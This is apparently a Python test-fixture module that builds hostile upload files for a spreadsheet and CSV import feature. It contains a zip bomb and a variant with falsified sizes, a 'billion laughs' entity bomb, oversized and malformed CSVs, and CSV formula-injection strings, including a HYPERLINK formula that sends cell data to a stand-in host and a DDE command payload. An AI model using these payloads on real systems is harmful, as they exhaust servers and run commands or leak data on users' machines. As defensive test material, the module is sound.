"""Hostile files made on the fly: zip bomb, entity bomb, huge line, NUL bytes, thousands of columns.

Each is what an attacker (or a broken export) could upload as a portfolio or a payments file.
"""

import io
import struct
import zipfile

from openpyxl import Workbook

HEADER = "Cuenta,Nombre,Teléfono,Saldo,Fecha Vencimiento"
GOOD_ROW = "BN-1,Ana Ruiz,55 1234 5678,1200.00,2026-11-01"
SHEET = "xl/worksheets/sheet1.xml"


def _workbook() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for line in (HEADER, GOOD_ROW):
        sheet.append(line.split(","))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _replace_member(content: bytes, name: str, chunks: "list[bytes] | bytes") -> bytes:
    """The workbook with one member's XML replaced (written in chunks, never held whole)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info.filename))
                continue
            with target.open(name, "w", force_zip64=True) as member:
                for chunk in [chunks] if isinstance(chunks, bytes) else chunks:
                    member.write(chunk)
    return out.getvalue()


def zip_bomb(inflated_mb: int = 1100) -> bytes:
    """A ~1 MB XLSX whose sheet inflates to more than a gigabyte of whitespace."""
    start = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    start += b'spreadsheetml/2006/main"><sheetData>'
    padding = b" " * (1 << 20)
    end = b"</sheetData></worksheet>"

    def chunks() -> "list[bytes]":
        return [start, *([padding] * inflated_mb), end]

    return _replace_member(_workbook(), SHEET, chunks())


def lying_zip_bomb() -> bytes:
    """A bomb whose central directory claims every member is tiny (declared sizes lie)."""
    content = bytearray(zip_bomb(inflated_mb=300))
    # Central directory entries: signature PK\x01\x02; uncompressed size at offset 24 (4 bytes),
    # or 0xFFFFFFFF with the real size in a zip64 extra field (header id 0x0001).
    position = content.find(b"PK\x01\x02")
    while position != -1:
        name_length, extra_length = struct.unpack_from("<HH", content, position + 28)
        extra = position + 46 + name_length
        if struct.unpack_from("<I", content, position + 24)[0] == 0xFFFFFFFF:
            cursor = extra
            while cursor < extra + extra_length:
                header, size = struct.unpack_from("<HH", content, cursor)
                if header == 1:
                    struct.pack_into("<Q", content, cursor + 4, 1000)
                cursor += 4 + size
        else:
            struct.pack_into("<I", content, position + 24, 1000)
        position = content.find(b"PK\x01\x02", position + 4)
    return bytes(content)


def entity_bomb() -> bytes:
    """An XLSX whose sheet declares the "billion laughs" entities."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    xml = (
        '<?xml version="1.0"?><!DOCTYPE worksheet [' + "".join(entities) + "]>"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    return _replace_member(_workbook(), SHEET, xml.encode())


def wide_xlsx(columns: int = 16_384) -> bytes:
    """An XLSX with one cell at the last column Excel has (XFD), and a dimension to match."""
    xml = (
        '<?xml version="1.0"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:XFD1048576"/><sheetData>'
        + "".join(
            f'<row r="{r}">'
            + "".join(
                f'<c r="{col}{r}" t="inlineStr"><is><t>{value}</t></is></c>'
                for col, value in zip("ABCDE", line.split(","), strict=True)
            )
            + (f'<c r="XFD{r}" t="inlineStr"><is><t>x</t></is></c>' if columns else "")
            + "</row>"
            for r, line in ((1, HEADER), (2, GOOD_ROW))
        )
        + "</sheetData></worksheet>"
    )
    return _replace_member(_workbook(), SHEET, xml.encode())


def huge_line_csv(megabytes: int = 20) -> bytes:
    """A CSV whose second line is one 20 MB field."""
    return f"{HEADER}\r\n{GOOD_ROW}\r\nBN-2,{'A' * (megabytes << 20)},55,1,2026-11-01\r\n".encode()


def nul_csv() -> bytes:
    """A CSV with a NUL byte inside a name."""
    return (
        f"{HEADER}\r\n{GOOD_ROW}\r\nBN-2,Luis\x00Gómez,55 8765 4321,90.00,2026-11-02\r\n".encode()
    )


def many_columns_csv(columns: int = 5_000) -> bytes:
    """A CSV whose data row has thousands of columns."""
    extra = ",x" * columns
    return f"{HEADER}\r\n{GOOD_ROW}{extra}\r\n".encode()


def formula_csv() -> bytes:
    """A portfolio whose values look like spreadsheet formulas (and a row rejected for one)."""
    return (
        "Cuenta,Nombre,Teléfono,Saldo,Fecha Vencimiento,Documento\r\n"
        '=HYPERLINK("http://x.example/?"&A1),=1+2,55 1234 5678,1200.00,2026-07-01,@SUM(A1)\r\n'
        "+BN-2,-Juan,55 2345 6789,900.00,2026-07-01,\tID9\r\n"
        "@BN-3,=cmd|' /C calc'!A0,55 3456 7890,=1+1,2026-07-01,\r\n"
    ).encode()
